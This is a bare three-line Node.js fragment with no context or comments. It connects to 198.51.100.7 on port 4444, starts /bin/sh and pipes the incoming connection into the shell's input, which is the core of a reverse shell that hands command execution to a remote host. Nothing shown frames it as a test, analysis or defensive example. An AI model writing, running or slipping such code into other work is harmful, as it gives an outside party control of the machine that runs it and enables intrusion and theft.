const c = net.connect(4444, "198.51.100.7")
const sh = spawn("/bin/sh")
c.pipe(sh.stdin)
